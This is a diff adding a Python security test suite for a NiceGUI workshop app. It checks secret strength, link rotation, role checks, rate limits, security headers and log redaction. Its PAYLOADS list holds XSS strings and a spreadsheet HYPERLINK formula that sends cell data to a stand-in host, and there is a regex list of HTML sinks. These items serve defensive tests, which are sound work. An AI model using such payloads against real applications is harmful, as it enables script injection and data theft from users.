@@ -1,0 +1,566 @@
+"""Integrity of roles and links, join rate limits, web hardening, no third-party requests, secrets not in logs."""
+
+from __future__ import annotations
+
+import importlib
+import inspect
+import logging
+import math
+import pkgutil
+import re
+from collections.abc import Callable
+
+import pytest
+from nicegui.testing import User
+
+from workshop import security
+from workshop.runtime import runtime
+from workshop.services import codes, participants, rotation
+from workshop.services.errors import Forbidden, NotFound, ServiceError
+from workshop.services.throttle import JoinThrottle, TooManyAttempts, find_code
+from workshop.services.workshops import create_from_template
+from workshop.templates import load_template
+
+from .services.helpers import member, post
+
+
+# --- secrets and codes ------------------------------------------------------------------------------
+
+def test_link_secrets_have_at_least_128_random_bits_from_a_secure_source(monkeypatch):
+    calls = []
+    real = codes.secrets.token_urlsafe
+    monkeypatch.setattr(codes.secrets, 'token_urlsafe', lambda n: calls.append(n) or real(n))
+    secret = codes.new_secret()
+    assert calls == [16]  # 16 bytes = 128 bits from the OS's CSPRNG (the secrets module)
+    assert len(secret) == 22 and re.fullmatch(r'[\w-]+', secret)
+    assert len({codes.new_secret() for _ in range(1000)}) == 1000
+
+
+async def test_created_links_carry_distinct_strong_secrets(db, cluster):
+    secrets_ = [cluster.lead_secret] + [b.moderator_secret for b in cluster.breakouts]
+    assert len(set(secrets_)) == len(secrets_)
+    for s in secrets_:
+        assert len(s) >= 22  # base64url: 22 characters hold 128 bits
+
+
+def test_join_codes_are_short_and_unambiguous():
+    assert not set('0O1IL') & set(codes.JOIN_ALPHABET)
+    assert codes.JOIN_CODE_LENGTH == 6
+    assert math.log2(len(codes.JOIN_ALPHABET) ** codes.JOIN_CODE_LENGTH) > 29
+    for _ in range(200):
+        code = codes.new_join_code()
+        assert len(code) == 6 and set(code) <= set(codes.JOIN_ALPHABET)
+    assert codes.normalise_join_code(' k7m-2qx ') == 'K7M2QX'
+
+
+# --- rotation -------------------------------------------------------------------------------------
+
+async def test_lead_rotates_a_moderator_link_and_the_old_one_stops_working(db, bus, cluster):
+    from workshop.services import facilitation
+    old = cluster.breakouts[0].moderator_secret
+    new = await rotation.rotate_moderator_secret(db, bus, lead_secret=cluster.lead_secret,
+                                                 breakout_id=cluster.breakouts[0].breakout_id)
+    assert new != old and len(new) >= 22
+    with pytest.raises(Forbidden):
+        await facilitation.set_phase(db, bus, secret=old, phase='vote')
+    await facilitation.set_phase(db, bus, secret=new, phase='vote')
+    # the other rooms' links are untouched
+    await facilitation.set_phase(db, bus, secret=cluster.breakouts[1].moderator_secret, phase='vote')
+    # a moderator cannot rotate, and the lead only the breakouts of the own workshop
+    with pytest.raises(Forbidden):
+        await rotation.rotate_moderator_secret(db, bus, lead_secret=new, breakout_id=cluster.breakouts[0].breakout_id)
+    other = await create_from_template(db, template=load_template('cluster-workshop'))
+    with pytest.raises(NotFound):
+        await rotation.rotate_moderator_secret(db, bus, lead_secret=cluster.lead_secret,
+                                               breakout_id=other.breakouts[0].breakout_id)
+
+
+async def test_lead_rotates_the_lead_link(db, bus, cluster):
+    from workshop.services import lead
+    new = await rotation.rotate_lead_secret(db, bus, lead_secret=cluster.lead_secret)
+    assert new != cluster.lead_secret
+    with pytest.raises(Forbidden):
+        await lead.send_notice(db, bus, lead_secret=cluster.lead_secret, text='Pause')
+    await lead.send_notice(db, bus, lead_secret=new, text='Pause')
+    with pytest.raises(Forbidden):
+        await rotation.rotate_lead_secret(db, bus, lead_secret=cluster.lead_secret)
+
+
+# --- every moderator action is checked on the server ------------------------------------------------
+
+def _moderator_actions() -> list[Callable]:
+    """Every service function that takes a moderator's or the lead moderator's secret."""
+    import workshop.services as package
+    found = []
+    for info in pkgutil.iter_modules(package.__path__):
+        module = importlib.import_module(f'workshop.services.{info.name}')
+        for name, fn in vars(module).items():
+            if name.startswith('_') or not inspect.iscoroutinefunction(fn) or fn.__module__ != module.__name__:
+                continue
+            params = inspect.signature(fn).parameters
+            if next(iter(params), None) != 'db':  # helpers inside a transaction (access.py) are not actions
+                continue
+            if 'secret' in params or 'lead_secret' in params:
+                found.append(fn)
+    return found
+
+
+def _arguments(fn: Callable, ids: dict[str, int]) -> dict:
+    values = {}
+    for name, p in inspect.signature(fn).parameters.items():
+        if p.kind is not p.KEYWORD_ONLY or p.default is not p.empty or name in ('secret', 'lead_secret'):
+            continue
+        annotation = str(p.annotation)
+        if name == 'configured_secret':
+            values[name] = 'the-real-admin-secret'
+        elif name.endswith('_id') or name in ('number', 'round_number', 'topic_number', 'step', 'seconds', 'count',
+                                            'days', 'position'):
+            values[name] = ids.get(name, 1)
+        elif 'bool' in annotation:
+            values[name] = True
+        elif 'list' in annotation or 'Sequence' in annotation:
+            values[name] = ['x']
+        elif 'bytes' in annotation:
+            values[name] = None
+        elif name == 'phase':
+            values[name] = 'vote'
+        else:
+            values[name] = 'x'
+    return values
+
+
+async def test_a_participant_calling_any_moderator_action_is_refused(db, bus, cluster):
+    token, breakout_id = await member(db, bus, cluster)
+    idea_id = await post(db, bus, token, breakout_id, 'Eine Idee')
+    second = await post(db, bus, token, breakout_id, 'Noch eine Idee')
+    ids = {'breakout_id': breakout_id, 'idea_id': idea_id, 'keep_id': idea_id, 'merge_id': second,
+           'participant_id': 1, 'round_number': 2,
+           'topic_number': 1, 'number': 1, 'step': 1, 'seconds': 60, 'count': 1, 'days': 1}
+    actions = _moderator_actions()
+    assert len(actions) > 30, [a.__name__ for a in actions]
+    names = {f'{a.__module__.rsplit(".", 1)[1]}.{a.__name__}' for a in actions}
+    for expected in ('lead.remove_participant', 'lead.set_joining_locked', 'rotation.rotate_lead_secret',
+                     'privacy.delete_workshop', 'curation.hide_idea', 'facilitation.set_phase'):
+        assert expected in names
+    refused = []
+    for action in actions:
+        key = 'lead_secret' if 'lead_secret' in inspect.signature(action).parameters else 'secret'
+        for fake in (token, '', cluster.join_code):
+            try:
+                positional = (db, bus) if 'bus' in inspect.signature(action).parameters else (db,)
+                await action(*positional, **{key: fake}, **_arguments(action, ids))
+            except Forbidden:
+                continue
+            except ServiceError as e:  # a refusal, but for the wrong reason: the secret must be checked first
+                pytest.fail(f'{action.__module__}.{action.__name__} said {e!r} instead of refusing the participant')
+            pytest.fail(f'{action.__module__}.{action.__name__} accepted a participant token as a secret')
+        refused.append(action.__name__)
+    assert len(refused) == len(actions)
+    # and nothing changed: the idea is still there, visible, unedited
+    from workshop.models import Idea
+    async with db.session() as s:
+        idea = await s.get(Idea, idea_id)
+    assert not idea.hidden and idea.text == 'Eine Idee'
+
+
+async def test_a_moderator_cannot_act_on_another_room(db, bus, cluster):
+    from workshop.services import curation
+    token, breakout_id = await member(db, bus, cluster, index=0)
+    idea_id = await post(db, bus, token, breakout_id, 'Idee in W 1.1')
+    with pytest.raises(ServiceError):
+        await curation.hide_idea(db, bus, secret=cluster.breakouts[1].moderator_secret, idea_id=idea_id)
+
+
+async def test_moderator_page_with_a_participant_token_is_refused(user: User):
+    links = await create_from_template(runtime().db, template=load_template('cluster-workshop'))
+    _, token = await participants.join(runtime().db, code=links.join_code)
+    await user.open(f'/m/{token}')
+    await user.should_see('Moderationslink ist nicht (mehr) gültig')
+    await user.open(f'/lead/{token}')
+    await user.should_see('Moderationslink ist nicht (mehr) gültig')
+
+
+# --- join rate limits -----------------------------------------------------------------------------
+
+async def test_wrong_codes_are_limited_per_address(db, cluster):
+    throttle = JoinThrottle(wrong_codes='5/minute')
+    async with db.session() as s:
+        for _ in range(5):
+            with pytest.raises(NotFound) as e:
+                await find_code(s, 'ZZZZZZ', address='203.0.113.7', throttle=throttle)
+            assert 'no workshop with the code ZZZZZZ' in str(e.value)  # a clear message
+        with pytest.raises(TooManyAttempts):  # now even the right code is refused for this address …
+            await find_code(s, cluster.join_code, address='203.0.113.7', throttle=throttle)
+        # … but not for another one
+        assert (await find_code(s, cluster.join_code, address='203.0.113.8', throttle=throttle)).join_code \
+            == cluster.join_code
+    with pytest.raises(TooManyAttempts):
+        await participants.join(db, code=cluster.join_code, address='203.0.113.7', throttle=throttle)
+
+
+async def test_right_codes_do_not_count_as_wrong_ones_and_joins_have_their_own_limit(db, cluster):
+    throttle = JoinThrottle(wrong_codes='2/minute', joins='10/minute')
+    for _ in range(10):  # a venue behind one address: many people join with the right code
+        await participants.join(db, code=cluster.join_code, address='198.51.100.1', throttle=throttle)
+    with pytest.raises(TooManyAttempts):  # a flood of fake participants is stopped
+        await participants.join(db, code=cluster.join_code, address='198.51.100.1', throttle=throttle)
+    await participants.join(db, code=cluster.join_code, address='198.51.100.2', throttle=throttle)
+
+
+def test_default_limits_make_guessing_hopeless():
+    from limits import parse_many
+
+    from workshop.services import throttle
+    per_hour = min(item.amount * 3600 / item.get_expiry() for item in parse_many(throttle.WRONG_CODES))
+    codes_total = len(codes.JOIN_ALPHABET) ** codes.JOIN_CODE_LENGTH
+    # even with 100 workshops open at once, one address needs years for a 50 % chance to hit any of them
+    hours = codes_total / 100 / 2 / per_hour
+    assert hours / (24 * 365) > 3
+
+
+async def test_home_page_and_join_link_are_rate_limited(user: User):
+    rt = runtime()
+    rt.throttle = JoinThrottle(wrong_codes='3/minute')
+    links = await create_from_template(rt.db, template=load_template('cluster-workshop'))
+    await user.open('/')
+    for wrong in ('ZZZZZ2', 'ZZZZZ3', 'ZZZZZ4'):  # each message names its code: one after the other
+        user.find(marker='join-code').clear().type(wrong)
+        user.find(marker='join-submit').click()
+        await user.should_see(f'Es gibt keinen Workshop mit dem Code {wrong}', retries=20)
+    user.find(marker='join-code').clear().type(links.join_code)
+    user.find(marker='join-submit').click()
+    await user.should_see('Zu viele Versuche', retries=20)
+    await user.open(f'/j/{links.join_code}')
+    await user.should_see('Zu viele Versuche', retries=20)
+
+
+# --- web hardening --------------------------------------------------------------------------------
+
+def _pages(links) -> list[str]:
+    b = links.breakouts[0]
+    return ['/', f'/j/{links.join_code}', f'/wall/{links.join_code}', f'/wall/{links.join_code}/{b.breakout_id}',
+            f'/m/{b.moderator_secret}', f'/lead/{links.lead_secret}', '/admin/test-admin-secret', '/j/ZZZZZZ']
+
+
+async def test_security_headers_on_every_page(user: User):
+    links = await create_from_template(runtime().db, template=load_template('cluster-workshop'))
+    for path in _pages(links) + [f'/lead/{links.lead_secret}/protocol']:
+        response = await user.http_client.get(path)
+        assert response.status_code == 200, path
+        h = response.headers
+        csp = h['content-security-policy']
+        assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp and "object-src 'none'" in csp
+        assert "connect-src 'self' ws://workshop.test" in csp
+        assert 'http:' not in csp.replace('ws://workshop.test', '') and '*' not in csp
+        assert h['x-frame-options'] == 'DENY'
+        assert h['referrer-policy'] == 'no-referrer'
+        assert h['x-content-type-options'] == 'nosniff'
+        assert h['cache-control'] == 'no-store', path  # pages, and above all those with secrets
+    static = await user.http_client.get('/assets/style.css')
+    assert static.headers['x-content-type-options'] == 'nosniff'
+
+
+_URL = re.compile(r'''(?:https?:|wss?:)?//([A-Za-z0-9.-]+\.[A-Za-z]{2,}|localhost|\d+\.\d+\.\d+\.\d+)(?::\d+)?''')
+
+
+def _hosts(text: str) -> set[str]:
+    return {m.group(1) for m in _URL.finditer(text)}
+
+
+async def test_no_page_references_another_host(user: User, create_user: Callable[[], User]):
+    """Fonts, scripts, styles and images all come from the app itself (checked in pages and their CSS/JS)."""
+    rt = runtime()
+    links = await create_from_template(rt.db, template=load_template('cluster-workshop'))
+    phone = create_user()
+    await phone.open(f'/j/{links.join_code}')
+    phone.find(marker='breakout-W1.1').click()
+    await phone.should_see(marker='idea-input', retries=30)
+    allowed = {'workshop.test', 'test'}  # the app's own public URL (in the QR code and links) and test host
+    seen_assets: set[str] = set()
+    for client, path in [(user, p) for p in _pages(links)] + [(phone, f'/j/{links.join_code}/room')]:
+        response = await client.http_client.get(path, follow_redirects=True)
+        html = response.text
+        assert _hosts(html) <= allowed, (path, _hosts(html) - allowed)
+        seen_assets |= set(re.findall(r'''(?:src|href)=["']([^"']+)["']''', html))
+        seen_assets |= set(re.findall(r'''@import url\(["']?([^"')]+)''', html))
+    local = {a for a in seen_assets if a.startswith('/') and not a.startswith('//')}
+    assert seen_assets - local <= {'#'} or all(not _hosts(a) - allowed for a in seen_assets - local)
+    assert any('socket.io' in a for a in local) and any('.css' in a for a in local)
+    for asset in sorted(local):
+        response = await user.http_client.get(asset)
+        assert response.status_code == 200, asset
+        if asset.endswith('.css'):
+            assert not _hosts(response.text), (asset, _hosts(response.text))
+            for font in re.findall(r'url\(["\']?([^"\')]+)', response.text):
+                assert font.startswith(('data:', '/', '.')) or '://' not in font, (asset, font)
+
+
+def test_websocket_origin_check():
+    check = security.websocket_origin_check('https://workshop.example.org')
+    environ = {'HTTP_HOST': 'workshop.example.org', 'wsgi.url_scheme': 'http'}
+    assert check('https://workshop.example.org', environ)
+    assert not check('https://evil.example.com', environ)
+    assert not check('http://workshop.example.org.evil.com', environ)
+    assert check(None, environ)  # no Origin: not a browser, nothing to forge
+    local = {'HTTP_HOST': 'localhost:8080', 'wsgi.url_scheme': 'http'}
+    assert check('http://localhost:8080', local)  # same origin as the request
+    assert not check('http://localhost:9999', local)
+    proxied = {'HTTP_HOST': '127.0.0.1:8080', 'wsgi.url_scheme': 'http', 'HTTP_X_FORWARDED_PROTO': 'https',
+               'HTTP_X_FORWARDED_HOST': 'ws.example.net'}
+    assert check('https://ws.example.net', proxied)
+
+
+def test_the_app_uses_the_origin_check():
+    from nicegui import core
+    assert callable(core.sio.eio.cors_allowed_origins)
+    assert not core.sio.eio.cors_allowed_origins('https://evil.example.com', {'HTTP_HOST': 'workshop.test',
+                                                                               'wsgi.url_scheme': 'http'})
+
+
+def test_session_cookie_is_secure_behind_https():
+    assert security.cookie_settings('https://ws.example.org') == {'https_only': True, 'same_site': 'lax',
+                                                                   'max_age': 14 * 24 * 3600}
+    assert security.cookie_settings('http://192.168.1.5:8080')['https_only'] is False
+
+
+async def test_hsts_only_behind_https():
+    sent = []
+
+    async def app(scope, receive, send):
+        await send({'type': 'http.response.start', 'status': 200, 'headers': [(b'content-type', b'text/html')]})
+
+    async def send(message):
+        sent.append(message)
+    for url, expected in (('https://ws.example.org', True), ('http://localhost:8080', False)):
+        sent.clear()
+        await security.SecurityHeaders(app, public_url=url)({'type': 'http', 'path': '/'}, None, send)
+        names = {k for k, _ in sent[0]['headers']}
+        assert (b'strict-transport-security' in names) is expected
+        assert "connect-src 'self' wss://ws.example.org" in dict(sent[0]['headers'])[b'content-security-policy'] \
+            .decode() or not expected
+
+
+# --- logs -----------------------------------------------------------------------------------------
+
+def test_secrets_are_redacted_in_logs(caplog):
+    security.install_log_redaction()
+    secret = codes.new_secret()
+    access = logging.getLogger('uvicorn.access')
+    with caplog.at_level(logging.INFO):
+        access.info('%s - "%s %s HTTP/%s" %d', '127.0.0.1', 'GET', f'/m/{secret}', '1.1', 200)
+        logging.getLogger('workshop.test').warning('opened /lead/%s/protocol', secret)
+        logging.getLogger('nicegui').error('page /admin/%s failed', secret)
+    assert caplog.records
+    text = '\n'.join(r.getMessage() for r in caplog.records)
+    assert secret not in text
+    assert '/m/[secret]' in text and '/lead/[secret]/protocol' in text and '/admin/[secret]' in text
+
+
+def test_no_code_logs_a_secret():
+    """No log call or print in the code base is handed a secret, a token or a password as a value."""
+    import ast
+    from pathlib import Path
+    root = Path(__file__).resolve().parent.parent / 'workshop'
+    secretive = re.compile(r'secret|token|password', re.I)
+    offenders = []
+    for path in root.rglob('*.py'):
+        for node in ast.walk(ast.parse(path.read_text(encoding='utf-8'))):
+            if not isinstance(node, ast.Call) or not isinstance(node.func, ast.Attribute):
+                continue
+            target = node.func.value
+            if not (isinstance(target, ast.Name) and target.id in ('log', 'logger', 'logging')):
+                continue
+            values = node.args[1:] + [k.value for k in node.keywords]
+            names = [n.id if isinstance(n, ast.Name) else n.attr for v in values for n in ast.walk(v)
+                     if isinstance(n, (ast.Name, ast.Attribute))]
+            if any(secretive.search(name) for name in names):
+                offenders.append(f'{path.relative_to(root)}:{node.lineno}')
+    assert not offenders, offenders
+
+
+# --- hostile input: only ever rendered as text ------------------------------------------------------
+
+PAYLOADS = [
+    '<script>alert("x")</script>',
+    '<img src=x onerror=alert(1)>',
+    '[klick mich](javascript:alert(1))',
+    '<a href="javascript:alert(2)">Link</a>',
+    '=HYPERLINK("http://evil.example/?"&A1;"Details")',
+    '+SUMME(1;2)',
+    '-2+3 mehr Mittel',
+    '@SUMME(A1:A9)',
+    'Donaudampfschifffahrtsgesellschaftskapitänsmützenabzeichenherstellungsbetriebsvereinbarung' * 4,
+    'Emoji 👩‍💻 🇩🇪 ✅ 👍🏽',
+    'مرحبا بالعالم والتعاون — שלום עולם',
+    '**fett** _kursiv_ `code` # Überschrift {{ 7*7 }} ${7*7}',
+]
+
+
+async def _hostile_workshop(db, bus, links, *, name: str = '<b>Eve</b> =1+1'):
+    from workshop.services import curation, ideas, protocol
+    _, token = await participants.join(db, code=links.join_code, name=name, organisation='<i>Org</i>')
+    breakout_id = links.breakouts[0].breakout_id
+    await participants.choose_breakout(db, bus, token=token, workshop_id=links.workshop_id, breakout_id=breakout_id)
+    ids = []
+    for n, text in enumerate(PAYLOADS):
+        idea = await ideas.post_idea(db, bus, token=token, breakout_id=breakout_id, text=text, client_id=f'x{n}')
+        assert idea.text == text  # stored exactly as typed (nothing to clean in these)
+        ids.append(idea.id)
+    secret = links.breakouts[0].moderator_secret
+    await curation.set_group(db, bus, secret=secret, idea_id=ids[0], group='<script>alert(3)</script>')
+    await protocol.set_name_authors(db, bus, lead_secret=links.lead_secret, name_authors=True)
+    return token, ids
+
+
+def test_no_participant_text_can_be_rendered_as_html():
+    """The code base never hands text to an HTML sink: no ui.html, no v-html, no innerHTML.
+
+    The one ``ui.markdown`` (the lead's protocol preview) gets Markdown whose every piece of
+    text went through ``protocol.markdown.escape`` (tested below).
+    """
+    from pathlib import Path
+    root = Path(__file__).resolve().parent.parent / 'workshop'
+    sinks = re.compile(r'ui\.html\(|ui\.markdown\(|ui\.mermaid\(|add_body_html\(|v-html|innerHTML|outerHTML|'
+                       r'insertAdjacentHTML|document\.write|\.setHTML\(|sanitize=False')
+    found = []
+    for path in sorted(root.rglob('*')):
+        if path.suffix not in ('.py', '.js', '.vue', '.html') or path.name == 'security.py':
+            continue
+        for number, line in enumerate(path.read_text(encoding='utf-8').splitlines(), start=1):
+            if sinks.search(line):
+                found.append(f'{path.relative_to(root)}:{number}')
+    allowed = {p for p in found if p.startswith('pages/protocol.py:')}  # the escaped Markdown preview
+    assert set(found) - allowed == set(), found
+    # and the html head holds only what the code puts there itself (no participant text)
+    for path in root.rglob('*.py'):
+        for number, line in enumerate(path.read_text(encoding='utf-8').splitlines(), start=1):
+            if 'add_head_html(' in line:
+                assert re.search(r"add_head_html\((f?)'<(link|style|meta|script)[^{]*'\)", line), \
+                    f'{path.relative_to(root)}:{number}: {line.strip()}'
+
+
+def test_markdown_preview_shows_hostile_text_as_text():
+    import markdown2
+
+    from workshop.protocol.markdown import escape
+    for payload in PAYLOADS:
+        html = markdown2.markdown(f'- {escape(payload)}\n', extras=['tables'])
+        assert '<script' not in html and '<img' not in html and '<a ' not in html and 'javascript:' not in \
+            html.replace('javascript:alert', '') or 'href' not in html, (payload, html)
+        assert '<strong>' not in html and '<em>' not in html and '<code>' not in html and '<h1>' not in html
+
+
+async def test_exports_contain_hostile_text_literally_and_neutralise_formulas(db, bus, cluster, tmp_path):
+    import csv
+    import io
+    import subprocess
+    import zipfile
+
+    from workshop.protocol.render import export
+    await _hostile_workshop(db, bus, cluster)
+
+    table = (await export(db, cluster.workshop_id, 'csv')).content.decode('utf-8-sig')
+    rows = list(csv.reader(io.StringIO(table), delimiter=';'))
+    cells = [cell for row in rows for cell in row]
+    for payload in PAYLOADS:
+        if payload[0] in '=+-@':
+            assert "'" + payload in cells and payload not in cells  # a formula stays text
+        else:
+            assert payload in cells
+    assert not [c for c in cells if c[:1] in ('=', '+', '-', '@')]
+    assert "'<b>Eve</b> =1+1" in table or '<b>Eve</b> =1+1' in table  # the author column, as text
+
+    md = (await export(db, cluster.workshop_id, 'md')).content.decode('utf-8')
+    assert '<script' not in md and '<img' not in md and '<a href' not in md
+    assert '&lt;script&gt;alert("x")&lt;/script&gt;' in md
+
+    docx = (await export(db, cluster.workshop_id, 'docx')).content
+    with zipfile.ZipFile(io.BytesIO(docx)) as z:
+        xml = z.read('word/document.xml').decode('utf-8')
+        rels = ''.join(z.read(n).decode('utf-8') for n in z.namelist() if n.endswith('.rels'))
+    for payload in PAYLOADS:
+        escaped = payload.replace('&', '&amp;').replace('<', '&lt;').replace('>', '&gt;')
+        assert escaped in xml or escaped.replace('"', '&quot;') in xml, payload
+    assert 'javascript:' not in rels and '<script' not in xml
+
+    pdf = (await export(db, cluster.workshop_id, 'pdf')).content
+    assert b'/URI' not in pdf or b'javascript' not in pdf  # no link annotations out of participant text
+    target = tmp_path / 'p.pdf'
+    target.write_bytes(pdf)
+    text = subprocess.run(['pdftotext', '-enc', 'UTF-8', str(target), '-'], capture_output=True, text=True,
+                          check=True, timeout=60).stdout
+    flat = ' '.join(text.split())
+    for payload in ('<script>alert("x")</script>', '<img src=x onerror=alert(1)>', '[klick mich](javascript:alert(1))',
+                    '=HYPERLINK(', '**fett** _kursiv_'):
+        assert payload in flat, payload
+    assert 'Donaudampfschifffahrts' in flat  # a very long word is broken, not lost
+
+
+async def test_pages_show_hostile_text_as_text(user: User, create_user: Callable[[], User]):
+    """Phone, moderator page and wall receive participant text only as text: labels or the data of
+    a component whose template interpolates it as text (never ui.html/ui.markdown)."""
+    from nicegui import ui
+    rt = runtime()
+    links = await create_from_template(rt.db, template=load_template('cluster-workshop'))
+    b = links.breakouts[0]
+    moderator, wall, phone = user, create_user(), create_user()
+    await moderator.open(f'/m/{b.moderator_secret}')
+    await wall.open(f'/wall/{links.join_code}/{b.breakout_id}')
+    await phone.open(f'/j/{links.join_code}')
+    phone.find(marker='breakout-W1.1').click()
+    await phone.should_see(marker='idea-input', retries=30)
+    from workshop.services import ideas
+    token = next(iter(participants_tokens(phone)))
+    for n, text in enumerate(PAYLOADS):
+        await ideas.post_idea(rt.db, rt.bus, token=token, breakout_id=b.breakout_id, text=text, client_id=f'p{n}')
+    import asyncio
+    for viewer in (moderator, wall, phone):
+        seen: set[str] = set()
+        for _ in range(40):
+            seen = _texts_on(viewer)
+            if all(p in seen for p in PAYLOADS):
+                break
+            await asyncio.sleep(0.05)
+        assert all(p in seen for p in PAYLOADS), [p for p in PAYLOADS if p not in seen]
+        for element in _elements(viewer):
+            assert not isinstance(element, (ui.html, ui.markdown)), element
+
+
+def participants_tokens(viewer: User) -> list[str]:
+    from nicegui import app
+    from nicegui.storage import Storage  # noqa: F401
+    client = object.__getattribute__(viewer, 'client')
+    tokens = []
+    for storage in app.storage._users.values():  # noqa: SLF001
+        tokens.extend(storage.get('participants', {}).values())
+    assert tokens, client
+    return tokens
+
+
+def _elements(viewer: User) -> list:
+    client = object.__getattribute__(viewer, 'client')
+    return list(client.elements.values())
+
+
+def _texts_on(viewer: User) -> set[str]:
+    """Every text the page's elements hold: label texts and (for components) their props' strings."""
+    from nicegui import ui
+    texts: set[str] = set()
+
+    def walk(value) -> None:  # noqa: ANN001
+        if isinstance(value, str):
+            texts.add(value)
+        elif isinstance(value, dict):
+            for v in value.values():
+                walk(v)
+        elif isinstance(value, (list, tuple)):
+            for v in value:
+                walk(v)
+    for element in _elements(viewer):
+        if isinstance(element, ui.label):
+            texts.add(element.text)
+        walk(element.props)
+        items = getattr(element, 'items', None)  # a component's server-side data (the idea boards)
+        if isinstance(items, (dict, list)):
+            walk(items)
+    return texts
